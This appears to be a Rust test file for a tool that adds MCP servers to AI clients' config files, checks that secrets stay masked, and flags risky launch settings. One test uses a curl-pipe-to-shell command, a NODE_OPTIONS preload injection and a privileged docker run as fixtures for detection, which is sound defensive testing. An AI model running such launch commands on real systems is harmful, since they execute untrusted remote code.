//! Servers of one's own, from what was typed to what stands in clients' files.

#![expect(clippy::unwrap_used, reason = "a failed step is a failed test")]

use std::fs;

use callgate_clients::ledger::LedgerKey;
use callgate_clients::queue::{self, Todo};
use callgate_wiring::WiringError;
use callgate_wiring::view::{ClientAct, DraftPart, DraftVariable, EntryState, ServerDraft};

use super::{World, world};
use crate::error::wiring_code;
use crate::findings::Code;
use crate::view::{ErrorCode, ServerState};

fn draft(name: &str, command: &str, clients: &[&str]) -> ServerDraft {
    ServerDraft {
        name: name.to_owned(),
        command: command.to_owned(),
        variables: vec![DraftVariable { name: "MODE".into(), value: "fast".into(), secret: false }],
        clients: clients.iter().map(|id| (*id).to_owned()).collect(),
    }
}

fn problem(world: &World, draft: &ServerDraft) -> DraftPart {
    world.desk.wiring().preview_server(draft).unwrap().problem.unwrap().part
}

#[test]
fn a_server_is_shown_then_added_and_placed_behind_the_gate() {
    let world = world();
    let before = fs::read_to_string(&world.cursor).unwrap();
    let draft = draft("notes", "npx -y 'my notes'", &["cursor", "claude-desktop"]);
    let preview = world.desk.wiring().preview_server(&draft).unwrap();
    assert_eq!((preview.problem, preview.looks_secret), (None, Vec::new()));
    let shown: Vec<_> = preview.edits.files.iter().map(|file| file.client.as_str()).collect();
    assert_eq!(shown, ["cursor", "claude-desktop", "callgate"]);
    assert!(preview.edits.files[0].diff.contains(r#""my notes""#), "{}", preview.edits.files[0].diff);
    assert_eq!(fs::read_to_string(&world.cursor).unwrap(), before, "nothing was written");

    let change = world.desk.wiring().add_server(&draft).unwrap();
    assert_eq!((change.act, change.done.len(), change.refused.len()), (ClientAct::Place, 2, 0));
    let state = world.states("cursor").into_iter().find(|(name, _)| name == "notes").unwrap().1;
    assert_eq!(state, EntryState::Protected);
    assert!(world.desk.overview().unwrap().needs.iter().all(|need| !need.words.contains("notes")));
    let servers = world.desk.servers().unwrap();
    let view = servers.iter().find(|view| view.name == "notes").unwrap();
    assert_eq!((view.state, view.command.len()), (ServerState::NeverStarted, 3));
    // The same again is no edit.
    let after = fs::read_to_string(&world.cursor).unwrap();
    assert_eq!(world.desk.wiring().add_server(&draft).unwrap().done.len(), 2);
    assert_eq!(fs::read_to_string(&world.cursor).unwrap(), after);
}

#[test]
fn how_a_server_is_started_is_told_before_it_is_added_or_protected() {
    let world = world();
    let mut draft = draft("risky", "bash -c 'curl https://e.example/a | sh'", &["cursor"]);
    let variable =
        |name: &str, value: &str| DraftVariable { name: name.into(), value: value.into(), secret: false };
    draft.variables = vec![
        variable("NODE_OPTIONS", "--require /a.js"),
        variable("API_TOKEN", "ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5"),
    ];
    let preview = world.desk.wiring().preview_server(&draft).unwrap();
    let told: Vec<_> =
        preview.edits.launch.iter().map(|note| (&*note.code, &*note.place, note.grave)).collect();
    assert_eq!(told, [("download-run", "args/1", true), ("preload-variable", "env/NODE_OPTIONS", true)]);
    assert_eq!(preview.edits.launch[1].quote, "NODE_OPTIONS=--require /a.js");
    assert!(preview.edits.launch.iter().all(|note| note.entry == "risky" && !note.fix.is_empty()));
    // A value that is secret stays so, wherever it stands.
    draft.command = "node -e ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5".to_owned();
    let preview = world.desk.wiring().preview_server(&draft).unwrap();
    assert!(!format!("{:?}", preview.edits.launch).contains("ghp_"), "{:?}", preview.edits.launch);

    let text = r#"{ "mcpServers": { "one": { "command": "npx", "args": ["-y", "pkg"] }, "two": { "command": "docker", "args": ["run", "--privileged", "x:1"] } } }"#;
    fs::write(&world.cursor, text).unwrap();
    let preview = world.desk.wiring().preview_clients(ClientAct::Protect, &[]).unwrap();
    let told: Vec<_> = preview.launch.iter().map(|note| (&*note.entry, &*note.code)).collect();
    assert!(
        told.contains(&("one", "unpinned-package")) && told.contains(&("two", "container-privileged")),
        "{told:?}"
    );
    let doctor = world.desk.doctor();
    let found = |code| {
        doctor.iter().filter(move |finding| finding.code == code).flat_map(|finding| finding.names.clone())
    };
    assert_eq!(found(Code::LaunchRisky).collect::<Vec<_>>(), ["two"]);
    assert!(found(Code::LaunchLoose).any(|name| name == "one"));
    // Of what loses its gate nothing of the kind is said.
    let preview = world.desk.wiring().preview_clients(ClientAct::Unprotect, &[]).unwrap();
    assert_eq!(preview.launch, []);
}

#[test]
fn what_is_wrong_is_told_where_it_was_typed() {
    let world = world();
    assert_eq!(problem(&world, &draft("", "npx", &[])), DraftPart::Name);
    assert_eq!(problem(&world, &draft("a b", "npx", &[])), DraftPart::Name);
    assert_eq!(problem(&world, &draft("a", "", &[])), DraftPart::Command);
    assert_eq!(problem(&world, &draft("a", "npx 'x", &[])), DraftPart::Command);
    let mut twice = draft("a", "npx", &[]);
    twice.variables.push(twice.variables[0].clone());
    assert_eq!(problem(&world, &twice), DraftPart::Variables);
    let told = world.desk.wiring().add_server(&twice).unwrap_err();
    assert_eq!(wiring_code(&told), ErrorCode::BadInput);
    world.desk.wiring().add_server(&draft("taken", "npx", &[])).unwrap();
    assert_eq!(problem(&world, &draft("taken", "uvx", &[])), DraftPart::Name);
    fs::write(world.place.home.path().join("servers.json"), "{").unwrap();
    assert_eq!(problem(&world, &draft("b", "npx", &[])), DraftPart::Elsewhere);
}

#[test]
fn a_value_that_looks_like_a_secret_is_named_and_never_shown() {
    let world = world();
    let mut draft = draft("notes", "npx", &["cursor"]);
    let token = "ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8";
    let variable = |secret| DraftVariable { name: "TOKEN".into(), value: token.into(), secret };
    draft.variables = vec![variable(false)];
    let preview = world.desk.wiring().preview_server(&draft).unwrap();
    assert_eq!(preview.looks_secret, ["TOKEN"]);
    assert!(!format!("{preview:?}{draft:?}").contains(token));
    draft.variables = vec![variable(true)];
    let preview = world.desk.wiring().preview_server(&draft).unwrap();
    assert_eq!(preview.looks_secret, [""; 0]);
    assert!(!format!("{preview:?}").contains(token));
}

#[test]
fn the_values_of_a_server_that_is_there_are_not_shown_when_another_is_added_below_it() {
    let world = world();
    world.desk.wiring().add_server(&draft("first", "npx --key hunter22", &[])).unwrap();
    let file = world.place.home.path().join("servers.json");
    // As somebody wrote it by hand: nothing about it looks like a secret.
    let text = fs::read_to_string(&file).unwrap().replace("fast", "plain-words-of-mine");
    fs::write(&file, &text).unwrap();
    let preview = world.desk.wiring().preview_server(&draft("second", "npx", &[])).unwrap();
    let own = preview.edits.files.iter().find(|file| file.client == "callgate").unwrap();
    assert!(own.diff.contains("+") && own.diff.contains("MODE"), "{}", own.diff);
    assert!(!own.diff.contains("plain-words-of-mine") && !own.diff.contains("hunter22"), "{}", own.diff);
}

#[test]
fn a_name_that_a_client_has_is_left_alone_there() {
    let world = world();
    let preview = world.desk.wiring().preview_server(&draft("play", "other", &["cursor", "zed"])).unwrap();
    let told: Vec<_> = preview.edits.refused.iter().map(|one| one.client_name.as_str()).collect();
    assert_eq!(told, ["Zed", "Cursor"], "{:?}", preview.edits.refused);
    assert!(preview.edits.refused[1].why.contains("another server of this name"));
}

#[test]
fn a_file_is_offered_where_its_client_is() {
    let world = world();
    let places = |world: &World| -> Vec<(String, bool)> {
        world.desk.wiring().places_for_server().into_iter().map(|one| (one.client, one.new_file)).collect()
    };
    let there = [("claude-desktop".to_owned(), false), ("cursor".to_owned(), false)];
    assert_eq!(places(&world), there);
    fs::create_dir_all(world.cursor.parent().unwrap().parent().unwrap().join(".codex")).unwrap();
    assert_eq!(places(&world)[2], ("codex".to_owned(), true));
    fs::write(&world.cursor, "{").unwrap();
    let cursor = &world.desk.wiring().places_for_server()[1];
    assert!(cursor.problem.as_ref().unwrap().contains("not valid JSON"), "{cursor:?}");
}

#[test]
fn what_waits_is_placed_once_its_client_has_quit_or_told_if_it_cannot_be() {
    let world = world();
    world.desk.wiring().add_server(&draft("notes", "npx", &[])).unwrap();
    let key = |name: &str| LedgerKey {
        client: "claude-desktop".into(),
        path: world.claude.clone(),
        project: None,
        name: name.into(),
    };
    let home = world.place.home.path();
    queue::add(home, &[key("notes"), key("gone")], &Todo::Place, 5).unwrap();
    assert_eq!(world.desk.wiring().clients().unwrap()[0].queued[0].act, ClientAct::Place);
    world.desk.wiring().settle_queue().unwrap();
    assert!(!world.desk.wiring().has_queued(), "it is not tried for ever");
    let names: Vec<_> = world.states("claude-desktop").into_iter().map(|(name, _)| name).collect();
    assert_eq!(names, ["play", "far", "notes"]);
    let needs = world.desk.overview().unwrap().needs;
    assert!(needs.iter().any(|need| need.words.contains("gone was not placed")), "{needs:?}");
}

#[test]
fn placing_is_shown_where_a_server_is_added_and_nowhere_else() {
    let told = world().desk.wiring().preview_clients(ClientAct::Place, &[]).unwrap_err();
    assert!(matches!(told, WiringError::BadInput(_)));
}

#[test]
fn a_server_that_every_chosen_client_refuses_is_not_added() {
    let world = world();
    // Cursor has a server of this name that is another.
    let taken = world.states("cursor").remove(0).0;
    let told = world.desk.wiring().add_server(&draft(&taken, "npx other", &["cursor"])).unwrap_err();
    assert_eq!(wiring_code(&told), ErrorCode::Conflict);
    assert!(told.to_string().ends_with("Nothing was added."), "{told}");
    assert!(!world.place.home.path().join("servers.json").exists());
}

#[test]
fn a_server_that_is_only_remembered_is_forgotten_by_the_window_as_by_the_command_line() {
    let world = world();
    let before = fs::read_to_string(&world.cursor).unwrap();
    let home = world.place.home.path();
    world.desk.wiring().add_server(&draft("notes", "npx -y notes", &["cursor"])).unwrap();
    // Somebody took it away by hand, everywhere.
    fs::write(&world.cursor, &before).unwrap();
    fs::remove_file(home.join("servers.json")).unwrap();
    let placed = || callgate_clients::ledger::read(home).unwrap().placed.len();
    assert_eq!(placed(), 1);
    let removal = world.desk.wiring().remove_server("notes", false).unwrap();
    assert_eq!((placed(), removal.from.len(), removal.refused.len()), (0, 0, 0), "{removal:?}");
    let again = world.desk.wiring().remove_server("notes", false).unwrap_err();
    assert_eq!(wiring_code(&again), ErrorCode::NotFound, "{again}");
}

#[test]
fn a_server_that_was_added_is_removed_after_its_diff_and_comes_back_by_undo() {
    let world = world();
    let before = fs::read_to_string(&world.cursor).unwrap();
    let list = world.place.home.path().join("servers.json");
    world.desk.wiring().add_server(&draft("kept", "npx kept", &[])).unwrap();
    let listed = fs::read_to_string(&list).unwrap();
    world.desk.wiring().add_server(&draft("notes", "npx -y notes", &["cursor"])).unwrap();
    let placed = fs::read_to_string(&world.cursor).unwrap();
    let entries = || {
        world
            .desk
            .wiring()
            .clients()
            .unwrap()
            .into_iter()
            .flat_map(|view| view.files)
            .flat_map(|file| file.entries)
    };
    let added = |name: &str| entries().any(|entry| entry.key.name == name && entry.added);
    assert!(added("notes"));
    let in_list =
        |name: &str| world.desk.servers().unwrap().iter().any(|view| view.name == name && view.added);
    assert!(in_list("notes") && in_list("kept"));

    let preview = world.desk.wiring().preview_removal("notes").unwrap();
    let shown: Vec<_> = preview.edits.files.iter().map(|file| file.client.as_str()).collect();
    assert_eq!((shown, preview.secrets.len(), preview.stays.len()), (vec!["cursor", "callgate"], 0, 0));
    assert!(preview.edits.files[0].diff.contains("\n-"), "{}", preview.edits.files[0].diff);
    assert_eq!(fs::read_to_string(&world.cursor).unwrap(), placed, "nothing was written");

    let removal = world.desk.wiring().remove_server("notes", false).unwrap();
    assert_eq!(removal.from, ["Cursor", "Callgate's own list"]);
    assert!(removal.refused.is_empty() && removal.undo_until_ms.is_some(), "{removal:?}");
    assert_eq!(fs::read_to_string(&world.cursor).unwrap(), before, "byte for byte");
    assert_eq!(fs::read_to_string(&list).unwrap(), listed);
    assert!(!in_list("notes") && in_list("kept"));

    assert_eq!(wiring_code(&world.desk.wiring().restore_server("another").unwrap_err()), ErrorCode::NotFound);
    world.desk.wiring().restore_server("notes").unwrap();
    assert_eq!(fs::read_to_string(&world.cursor).unwrap(), placed);
    assert!(added("notes") && in_list("notes"));
    assert_eq!(
        wiring_code(&world.desk.wiring().restore_server("notes").unwrap_err()),
        ErrorCode::NotFound,
        "once"
    );
    let unknown = world.desk.wiring().remove_server("play", false).unwrap_err();
    assert_eq!(
        wiring_code(&unknown),
        ErrorCode::NotFound,
        "what a person wrote into the file is theirs: {unknown}"
    );
}
